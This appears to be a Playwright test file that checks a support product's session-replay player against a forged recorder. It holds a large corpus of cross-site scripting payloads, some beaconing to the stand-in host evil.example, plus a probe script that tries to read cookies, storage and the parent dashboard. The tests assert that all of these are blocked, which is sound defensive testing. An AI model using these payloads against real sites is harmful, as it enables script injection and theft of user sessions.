import { createRecorderApi } from "@parley/api-client";
import type { Frame, Page } from "@playwright/test";
import { Client, pushed } from "../../apps/server/test/harness/clients.ts";
import { Desk } from "../support/desk.ts";
import { expect, test } from "../support/parley.ts";

/** A forged recorder can send any data. An agent who watches sees it, but nothing runs. */

const RAN = "top.ran=1;parent.ran=1;ran=1;fetch('http://evil.example/ran');new Image().src='http://evil.example/ran'";
const PAGE = `<script>${RAN}</script>`;

interface Node {
  type: number;
  tagName?: string;
  attributes?: object;
  childNodes?: Node[];
  [more: string]: unknown;
}

const element = (tagName: string, attributes: object = {}, childNodes: Node[] = [], more: object = {}): Node => ({
  type: 2,
  tagName,
  attributes,
  childNodes,
  ...more,
});
const words = (textContent: string, more: object = {}): Node => ({ type: 3, textContent, ...more });
const svg = (tagName: string, attributes: object, childNodes: Node[] = []) =>
  element(tagName, attributes, childNodes, { isSVG: true });

const handlers = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "ontoggle",
  "onanimationstart",
  "onpointerover",
  "onscroll",
];
const corpus: Node[] = [
  element("script", {}, [words(RAN)]),
  element("script", { src: "http://evil.example/script.js" }),
  element("SCRIPT", {}, [words(RAN)]),
  element("noscript", {}, [element("script", {}, [words(RAN)])]),
  ...handlers.map((name) => element("img", { src: "x:", [name]: RAN, autofocus: true })),
  element("details", { open: true, ontoggle: RAN }),
  element("input", { autofocus: true, onfocus: RAN }),
  element("video", { src: "x:", onerror: RAN, rr_mediaState: "played" }),
  element("iframe", { src: `javascript:${RAN}` }),
  element("iframe", { srcdoc: PAGE }),
  element("iframe", { src: `data:text/html,${PAGE}` }),
  element("iframe", {
    src: "http://evil.example/frame",
    sandbox: "allow-scripts allow-same-origin allow-top-navigation",
  }),
  element("iframe", { rr_src: `javascript:${RAN}` }),
  element("object", { data: `data:text/html,${PAGE}` }),
  element("object", { data: "http://evil.example/frame" }),
  element("embed", { src: `javascript:${RAN}` }),
  element("a", { href: `javascript:${RAN}`, target: "_top" }, [words("Click me")]),
  element("form", { action: "http://evil.example/frame", target: "_top" }, [element("button", {}, [words("Send")])]),
  element("meta", { "http-equiv": "refresh", content: "0;url=http://evil.example/frame" }),
  element("meta", { "http-equiv": "Content-Security-Policy", content: "script-src *" }),
  element("base", { href: "http://evil.example/", target: "_top" }),
  element("link", { rel: "import", href: "http://evil.example/frame" }),
  element("link", { rel: "stylesheet", _cssText: `</style><script>${RAN}</script>` }),
  element("style", { _cssText: `</style>${PAGE} a { background: url("javascript:${RAN}") }` }, [
    words("", { isStyle: true }),
  ]),
  element("textarea", { value: `</textarea>${PAGE}` }),
  element("template", {}, [words(PAGE)]),
  element("title", {}, [words(`</title>${PAGE}`)]),
  element("canvas", { rr_dataURL: `javascript:${RAN}` }),
  element("img", { rr_dataURL: `javascript:${RAN}`, srcset: `javascript:${RAN}` }),
  element("x-evil", { onclick: RAN }, [element("script", {}, [words(RAN)])], { isCustom: true, isShadowHost: true }),
  element("portal", { src: "http://evil.example/frame" }),
  element("frameset", { onload: RAN }, [element("frame", { src: `javascript:${RAN}` })]),
  svg("svg", { onload: RAN }, [
    svg("script", { "xlink:href": "http://evil.example/script.js" }),
    svg("script", {}, [words(RAN)]),
    svg("a", { "xlink:href": `javascript:${RAN}` }, [svg("text", {}, [words("x")])]),
    svg("animate", { attributeName: "href", values: `javascript:${RAN}`, onbegin: RAN }),
    svg("foreignObject", {}, [element("iframe", { srcdoc: PAGE })]),
    svg("use", { href: `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>${PAGE}</svg>#x` }),
  ]),
  { type: 5, textContent: `-->${PAGE}` },
];

const nonsense = [
  { type: 2, data: { node: { type: 0, id: 1, childNodes: [{ type: 4, id: 2, textContent: `]]>${PAGE}` }] } } },
  {},
  { type: "2", data: null },
  { type: 2, data: {} },
  { type: 2, data: { node: null } },
  { type: 3, data: { source: 0, adds: [{ parentId: 99_999, node: null }], removes: null } },
  { type: 3, data: { source: 999, id: "x" } },
  { type: 3, data: { source: 1, positions: [{ x: "a", y: {}, id: -1, timeOffset: "no" }] } },
  {
    type: 3,
    data: { source: 9, id: 1, type: 0, commands: [{ property: "constructor", args: ["alert(1)"], setter: false }] },
  },
  { type: 3, data: { source: 8, id: 1, adds: [{ rule: `</style>${PAGE}`, index: 1e9 }] } },
  { type: 4, data: { href: `javascript:${RAN}`, width: "1e9", height: -1 } },
  { type: 5, data: { tag: "x", payload: PAGE } },
  { type: 6, data: { plugin: "__proto__", payload: PAGE } },
  { type: 99 },
];

/** Nodes with ids like those of a recorder. */
function aDocument() {
  let number = 10;
  const numbered = (node: Node): Node => ({
    ...node,
    id: ++number,
    ...(node.childNodes && { childNodes: node.childNodes.map(numbered) }),
  });
  const picture = (id: string, hostile: Node[]) => ({
    node: {
      type: 0,
      id: 1,
      childNodes: [
        { type: 1, name: "html", publicId: "", systemId: "", id: 2 },
        {
          ...element("html", { onload: RAN }, [
            { ...element("head", {}, hostile.filter(({ tagName }) => tagName === "meta").map(numbered)), id: 4 },
            {
              ...element("body", { onload: RAN, onpageshow: RAN }, [
                ...hostile.map(numbered),
                numbered(element("p", { id }, [words("Seen")])),
              ]),
              id: 5,
            },
          ]),
          id: 3,
        },
      ],
    },
    initialOffset: { left: 0, top: 0 },
  });
  return { numbered, picture, next: () => number + 1 };
}

/** The player is a frame of the page that opens it. */
const playerOn = (page: Page) => page.frameLocator('iframe[title="The visitor\'s page"]').frameLocator("iframe");

/** Ends the recording, like a page on unload. */
const finish = (url: string, id: string) => fetch(`${url}/api/browser_sessions/${id}/finish`, { method: "POST" });

/** The agent's data that a script on the player's page can read, or the error that it gets. */
const reach = (url: string, token: string) => `(async () => {
  const attempt = async (get) => {
    try { return String(await get()); } catch (error) { return "refused"; }
  };
  return {
    origin: self.origin,
    session: await attempt(() => localStorage.getItem("parley:session")),
    kept: await attempt(() => sessionStorage.length),
    databases: await attempt(() => indexedDB.databases()),
    cookie: await attempt(() => document.cookie || "refused"),
    dashboard: await attempt(() => top.document.title),
    around: await attempt(() => parent.document.title),
    account: await attempt(() => fetch("${url}/api/me", { headers: { authorization: "${token}" } }).then((it) => it.status)),
  };
})()`;

test("the player has an opaque origin and no access to the agent's data", async ({
  register,
  browser,
  baseURL,
  parley,
}) => {
  const desk = await register("Company");
  await using machine = await browser.newContext({ baseURL: baseURL! }); // the player's policy reports what it refuses
  await machine.addCookies([{ name: "probe", value: "1", url: parley.url }]);
  const { page } = await Desk.logIn(await machine.newPage(), desk.credentials);
  const account_id = await desk.accountId();
  const { id } = await createRecorderApi({ baseUrl: parley.url }).beginRecording({ account_id });
  const { token } = await desk.session();
  const nothing = {
    origin: "null",
    session: "refused",
    kept: "refused",
    databases: "refused",
    cookie: "refused",
    dashboard: "refused",
    around: "refused",
    account: "refused",
  };
  const tries = async () => {
    const hasPlayer = (frame: Frame) => frame !== page.mainFrame() && frame.$("#player").catch(() => null);
    const frames = () => Promise.all(page.frames().map(async (frame) => ((await hasPlayer(frame)) ? [frame] : [])));
    await expect.poll(async () => (await frames()).flat()).toHaveLength(1);
    const [player] = (await frames()).flat();
    return player!.evaluate(reach(parley.url, token));
  };
  await page.goto(`/sessions/live/${id}`);
  expect(await tries()).toEqual(nothing);

  await test.step("the player also has an opaque origin when opened directly", async () => {
    await page.goto("/sessions/player");
    expect(await page.evaluate("self.origin")).toBe("null");
    await expect(page.locator("iframe")).toHaveCount(0);
  });
});

test("no script of a visit runs, loads a page, or reaches the dashboard", async ({
  register,
  browser,
  baseURL,
  parley,
}) => {
  const desk = await register("Company");
  // A separate context, because the player's content security policy reports refused requests to the console.
  await using machine = await browser.newContext({ baseURL: baseURL! });
  const { page } = await Desk.logIn(await machine.newPage(), desk.credentials);
  const account_id = await desk.accountId();
  const visitors = createRecorderApi({ baseUrl: parley.url });
  const { id } = await visitors.beginRecording({ account_id, metadata: { pathname: PAGE, browser: PAGE } });
  const attacker = new Client(parley.url, {});
  const { channel } = await attacker.join(`events:${account_id}:${id}`);
  const asked: string[] = [];
  await page.route("http://evil.example/**", (route) => {
    asked.push(`${route.request().resourceType()} ${route.request().url()}`);
    return route.fulfill({ body: PAGE, contentType: "text/html" });
  });
  page.on("dialog", (dialog) => asked.push(dialog.message()));
  page.on("popup", (popup) => asked.push(popup.url()));

  await page.goto("/sessions/list");
  await expect(page.getByRole("row", { name: /Anonymous User/ })).toContainText("<script>");
  await page.getByRole("table").getByRole("link").click();
  const player = playerOn(page);
  await expect(player.locator("#player")).toBeAttached();
  await attacker.next("presence_diff");

  const { numbered, picture, next } = aDocument();
  const emit = (event: object) =>
    pushed(channel, "replay:event:emitted", { event: { timestamp: Date.now(), ...event }, customer_id: null });

  for (const event of nonsense) await emit(event);
  await page.waitForTimeout(500);
  await emit({ type: 4, data: { href: "http://evil.example/", width: 800, height: 600 } });
  await emit({ type: 2, data: picture("first", corpus) });
  const inner = player.frameLocator("iframe").first();
  await expect(inner.locator("#first")).toHaveText("Seen");

  for (const node of corpus) {
    await emit({
      type: 3,
      data: {
        source: 0,
        texts: [],
        attributes: [],
        removes: [],
        adds: [{ parentId: 5, nextId: null, node: numbered(node) }],
      },
    });
  }
  const target = next();
  const adds = [{ parentId: 5, nextId: null, node: { ...element("img", { id: "target" }), id: target } }];
  await emit({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds } });
  const attributes = { src: "x:", ...Object.fromEntries(handlers.map((name) => [name, RAN])) };
  await emit({
    type: 3,
    data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: target, attributes }] },
  });
  for (const event of nonsense) await emit(event);
  await page.waitForTimeout(1500);
  await emit({ type: 4, data: { href: "http://evil.example/", width: 800, height: 600 } });
  await emit({ type: 2, data: picture("second", []) });
  await expect(inner.locator("#second")).toHaveText("Seen");

  expect(await page.evaluate("window.ran")).toBeUndefined();
  for (const frame of page.frames().filter((each) => /^data:|\/sessions\/player/.test(each.url())))
    expect(await frame.evaluate("window.ran")).toBeUndefined();
  expect(page.url()).toContain(`/sessions/live/${id}`);
  expect(
    asked.filter((each) => /ran$|^document|^script|^fetch|^xhr|^other/.test(each) || !each.includes("evil")),
  ).toEqual([]);
  await expect(page.getByRole("status").filter({ hasText: "Active" })).toBeVisible();
});

test("elements of a visit cannot be clicked or focused by keyboard", async ({ signUp, parley }) => {
  const desk = await signUp("Company");
  const { page } = desk;
  const account_id = await desk.accountId();
  const { id } = await createRecorderApi({ baseUrl: parley.url }).beginRecording({ account_id });
  const attacker = new Client(parley.url, {});
  const { channel } = await attacker.join(`events:${account_id}:${id}`);
  await page.goto(`/sessions/live/${id}`);
  await attacker.next("presence_diff");
  const link = { ...element("a", { href: "http://evil.example/", id: "link" }, []), id: 6 };
  const body = { ...element("body", {}, [link]), id: 5 };
  const node = {
    type: 0,
    id: 1,
    childNodes: [{ ...element("html", {}, [{ ...element("head"), id: 4 }, body]), id: 3 }],
  };
  await pushed(channel, "replay:event:emitted", {
    event: { type: 4, timestamp: 1, data: { width: 800, height: 600 } },
  });
  await pushed(channel, "replay:event:emitted", {
    event: { type: 2, timestamp: 2, data: { node, initialOffset: {} } },
  });
  const player = playerOn(page);
  await expect(player.frameLocator("iframe").locator("#link")).toBeAttached();
  await page.locator("body").click({ position: { x: 1, y: 1 } });
  for (let step = 0; step < 40; step++) {
    await page.keyboard.press("Tab");
    expect(await page.evaluate("document.activeElement?.tagName")).not.toBe("IFRAME");
  }
});

test("no script of a stored recording runs during its replay; the recording contains no passwords", async ({
  register,
  browser,
  baseURL,
  parley,
}) => {
  const desk = await register("Company");
  await using machine = await browser.newContext({ baseURL: baseURL! });
  const { page } = await Desk.logIn(await machine.newPage(), desk.credentials);
  const account_id = await desk.accountId();
  const { recordings } = await desk.api;
  await recordings.keepFor(1);
  const { id } = await createRecorderApi({ baseUrl: parley.url }).beginRecording({ account_id });
  const attacker = new Client(parley.url, {});
  const { channel } = await attacker.join(`events:${account_id}:${id}`);
  const { numbered, picture } = aDocument();
  let timestamp = 1_795_221_644_000;
  const emit = (event: object) => {
    timestamp += 100;
    return pushed(channel, "replay:event:emitted", { event: { timestamp, ...event }, customer_id: null });
  };
  const password = element("input", { type: "password", value: "SECRET-PASSWORD" });
  await emit({ type: 4, data: { href: "http://evil.example/", width: 800, height: 600 } });
  await emit({ type: 2, data: picture("first", [password, ...corpus]) });
  for (const node of corpus) {
    const adds = [{ parentId: 5, nextId: null, node: numbered(node) }];
    await emit({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds } });
  }
  await emit({ type: 2, data: picture("second", []) });
  for (const event of nonsense) await emit(event); // the player stops at some of these events
  attacker.close();
  await finish(parley.url, id);
  await expect.poll(async () => JSON.stringify(await recordings.get(id)), { timeout: 60_000 }).toContain('"second"');
  expect(JSON.stringify(await recordings.get(id))).not.toContain("SECRET-PASSWORD");

  const asked: string[] = [];
  await page.route("http://evil.example/**", (route) => {
    asked.push(`${route.request().resourceType()} ${route.request().url()}`);
    return route.fulfill({ body: PAGE, contentType: "text/html" });
  });
  page.on("dialog", (dialog) => asked.push(dialog.message()));
  page.on("popup", (popup) => asked.push(popup.url()));
  await page.goto(`/sessions/live/${id}`);
  const player = playerOn(page);
  await expect(player.frameLocator("iframe").first().locator("#first")).toHaveText("Seen");
  await page.getByRole("button", { name: "Play" }).click();
  const timeline = page.getByRole("slider", { name: "Timeline" });
  const left = async () => Number(await timeline.getAttribute("max")) - Number(await timeline.inputValue());
  await expect.poll(left).toBeLessThan(200); // playback has reached the end of the valid events
  expect(await page.evaluate("window.ran")).toBeUndefined();
  for (const frame of page.frames().filter((each) => /^data:|\/sessions\/player/.test(each.url())))
    expect(await frame.evaluate("window.ran")).toBeUndefined();
  expect(page.url()).toContain(`/sessions/live/${id}`);
  expect(
    asked.filter((each) => /ran$|^document|^script|^fetch|^xhr|^other/.test(each) || !each.includes("evil")),
  ).toEqual([]);
});

test("the player skips ten idle minutes unless the agent turns skipping off", async ({ signUp, parley }) => {
  const desk = await signUp("Company");
  const { page } = desk;
  const account_id = await desk.accountId();
  const { recordings } = await desk.api;
  await recordings.keepFor(1);
  const { id } = await createRecorderApi({ baseUrl: parley.url }).beginRecording({ account_id });
  const visitor = new Client(parley.url, {});
  const { channel } = await visitor.join(`events:${account_id}:${id}`);
  const { picture } = aDocument();
  const start = 1_795_221_644_000;
  const emit = (atMs: number, event: object) =>
    pushed(channel, "replay:event:emitted", { event: { timestamp: start + atMs, ...event }, customer_id: null });
  const click = { type: 3, data: { source: 2, type: 2, id: 5, x: 3, y: 4 } };
  await emit(0, { type: 4, data: { href: "http://shop.example/", width: 800, height: 600 } });
  await emit(10, { type: 2, data: picture("before", []) });
  await emit(500, click);
  await emit(600_000, click);
  await emit(600_100, { type: 2, data: picture("after", []) });
  visitor.close();
  await finish(parley.url, id);
  await expect.poll(async () => (await recordings.get(id)).browser_replay_events.length, { timeout: 60_000 }).toBe(5);

  await page.goto(`/sessions/live/${id}`);
  const seen = playerOn(page).frameLocator("iframe").first();
  await expect(seen.locator("#before")).toBeVisible();
  const timeline = page.getByRole("slider", { name: "Timeline" });
  const skip = page.getByRole("switch", { name: /skip/i });
  await expect(skip).toBeChecked();
  await skip.click();
  await page.getByRole("button", { name: "Play" }).click();
  await expect.poll(async () => Number(await timeline.inputValue())).toBeGreaterThan(2000);
  expect(Number(await timeline.inputValue())).toBeLessThan(300_000);
  await expect(seen.locator("#after")).toHaveCount(0);
  await skip.click();
  await expect(seen.locator("#after")).toBeVisible();
});
